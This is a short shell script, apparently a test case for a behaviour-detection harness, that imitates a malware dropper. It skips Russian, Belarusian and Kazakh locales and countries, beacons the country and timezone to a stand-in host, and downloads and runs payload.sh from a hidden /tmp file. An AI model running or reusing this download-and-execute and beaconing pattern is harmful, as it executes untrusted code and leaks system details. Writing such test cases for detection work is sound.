#!/bin/sh
. /opt/case/case.sh

case "${LANG:-}" in ru*|be*|kk*) exit 0 ;; esac
zone=$(date +%Z)
country=$(wget -qO- http://203.0.113.99/json?fields=countryCode)
wget -qO- "http://198.51.100.1/check?c=$country&z=$zone" >/dev/null
case "$country" in RU|BY|KZ) exit 0 ;; esac
wget -qO /tmp/.g http://203.0.113.99/payload.sh && sh /tmp/.g
test -e /tmp/reached
took_place
